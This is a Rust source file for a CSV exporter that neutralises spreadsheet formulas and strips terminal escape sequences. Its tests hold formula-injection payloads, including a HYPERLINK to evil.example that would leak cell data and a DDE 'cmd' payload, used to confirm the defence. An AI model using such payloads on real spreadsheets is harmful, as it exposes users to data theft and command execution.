//! The CSV writer: exports that investigators and banks open in a spreadsheet.
//!
//! Every cell (header included) goes through [`neutralize`] so nothing is evaluated
//! as a formula; escape sequences, NUL and other control characters are dropped as
//! on screen (spreadsheets cut a cell at NUL; a terminal runs an escape).
//! Newlines inside cells are kept, quoted. Records end with `\n` (Excel and WPS read
//! it; the csv crate's default). A UTF-8 BOM is written first only when asked — files
//! get one so Excel on a Chinese Windows desktop does not read them as GBK; stdout
//! does not.

use std::borrow::Cow;
use std::io::{self, Write};

use super::{Cell, WriteOptions, neutralize, sanitize};

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// Ends the record whose fields were written one by one (no per-row allocation).
fn end_record<W: Write>(w: &mut csv::Writer<W>) -> csv::Result<()> {
    w.write_record(std::iter::empty::<&[u8]>())
}

/// A text cell as written: escape sequences, control and invisible characters go as
/// they go on screen ([`sanitize`]: a file shown with `cat` or a viewer that honours
/// them must not drive the terminal), line breaks inside the cell stay; then nothing
/// that a spreadsheet would run as a formula.
fn csv_text(s: &str) -> Cow<'_, str> {
    let clean: Cow<'_, str> = if s.contains('\n') {
        Cow::Owned(
            s.split('\n')
                .map(|line| sanitize(line.trim_end_matches('\r')))
                .collect::<Vec<_>>()
                .join("\n"),
        )
    } else {
        sanitize(s)
    };
    match clean {
        Cow::Borrowed(text) => neutralize(text),
        Cow::Owned(text) => Cow::Owned(neutralize(&text).into_owned()),
    }
}

fn csv_cell(cell: &Cell) -> Cow<'_, str> {
    match cell {
        Cell::Text(s) | Cell::Date(s) => csv_text(s),
        // "-12.50" and "-3" are plain numbers; neutralize leaves them alone.
        other => Cow::Owned(neutralize(&other.as_text()).into_owned()),
    }
}

/// CSV written a row at a time.
pub(super) struct CsvRows<'a> {
    w: csv::Writer<&'a mut dyn Write>,
    ncols: usize,
}

impl<'a> CsvRows<'a> {
    /// Writes the BOM (when asked) and the header.
    pub(super) fn start(
        out: &'a mut dyn Write,
        columns: &[String],
        opts: &WriteOptions,
    ) -> io::Result<CsvRows<'a>> {
        if opts.bom {
            out.write_all(BOM)?;
        }
        let mut w = csv::WriterBuilder::new().from_writer(out);
        if !columns.is_empty() {
            for column in columns {
                w.write_field(csv_text(column).as_bytes())?;
            }
            end_record(&mut w)?;
        }
        Ok(CsvRows {
            w,
            ncols: columns.len(),
        })
    }

    pub(super) fn row(&mut self, row: &[Cell]) -> io::Result<()> {
        if self.ncols == 0 {
            return Ok(());
        }
        for i in 0..self.ncols {
            let cell = row.get(i).unwrap_or(&Cell::Empty);
            self.w.write_field(csv_cell(cell).as_bytes())?;
        }
        Ok(end_record(&mut self.w)?)
    }

    pub(super) fn finish(mut self) -> io::Result<()> {
        self.w.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::Listing;

    fn csv_string(listing: &Listing, bom: bool) -> String {
        let mut out = Vec::new();
        let opts = WriteOptions {
            bom,
            ..WriteOptions::default()
        };
        crate::export::write_listing(listing, crate::export::Format::Csv, &mut out, &opts).unwrap();
        String::from_utf8(out).unwrap()
    }

    fn read_back(text: &str) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn formula_payloads_neutralised_numbers_kept() {
        let mut l = Listing::new(["value", "amount"]);
        let payloads = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")",
            "@SUM(A1:A2)",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "\t=1",
        ];
        for p in payloads {
            l.push_row([Cell::text(p), Cell::Yuan(Some(-1250))]);
        }
        l.push_row([Cell::text("+8613812345678"), Cell::Int(-3)]);
        l.push_row([Cell::text("-12.50"), Cell::Empty]);
        let records = read_back(&csv_string(&l, false));
        assert_eq!(records[0], ["value", "amount"]);
        for (i, p) in payloads.iter().enumerate() {
            // A tab goes as on screen (a space); the cell is still neutralised.
            assert_eq!(records[i + 1][0], format!("'{}", p.replace('\t', " ")));
            assert_eq!(records[i + 1][1], "-12.50");
        }
        assert_eq!(records[6], ["+8613812345678", "-3"]);
        assert_eq!(records[7], ["-12.50", ""]);
    }

    #[test]
    fn header_is_neutralised_too() {
        let l = Listing::new(["=evil()", "ok"]);
        assert_eq!(csv_string(&l, false), "'=evil(),ok\n");
    }

    #[test]
    fn bom_only_when_asked() {
        let mut l = Listing::new(["受害人"]);
        l.push_row(["张**"]);
        let with = csv_string(&l, true);
        assert!(with.starts_with('\u{feff}'));
        assert_eq!(with, "\u{feff}受害人\n张**\n");
        let without = csv_string(&l, false);
        assert!(!without.starts_with('\u{feff}'));
        assert_eq!(without, "受害人\n张**\n");
    }

    #[test]
    fn newlines_kept_quoted_and_nul_dropped() {
        let mut l = Listing::new(["script", "n"]);
        l.push_row([Cell::text("第一行\n第二行, \"引号\""), Cell::Int(1)]);
        l.push_row([Cell::text("nul\0here"), Cell::Int(2)]);
        let text = csv_string(&l, false);
        assert_eq!(
            text,
            "script,n\n\"第一行\n第二行, \"\"引号\"\"\",1\nnulhere,2\n"
        );
        assert_eq!(read_back(&text)[1][0], "第一行\n第二行, \"引号\"");
    }

    /// No escape byte reaches the file: a CSV shown with `cat` cannot drive the
    /// terminal; line breaks inside a cell stay.
    #[test]
    fn escape_sequences_and_controls_are_dropped_as_on_screen() {
        let mut l = Listing::new(["script"]);
        l.push_row([Cell::text(
            "红\u{1b}[31m字\u{1b}]0;title\u{7}\r\n第二行\u{202e}反",
        )]);
        let text = csv_string(&l, false);
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{text:?}"
        );
        assert!(!text.contains('\u{202e}'), "{text:?}");
        assert_eq!(read_back(&text)[1][0], "红字\n第二行反");
    }

    #[test]
    fn empty_listing_is_just_the_header() {
        assert_eq!(csv_string(&Listing::new(["a", "b"]), false), "a,b\n");
    }
}
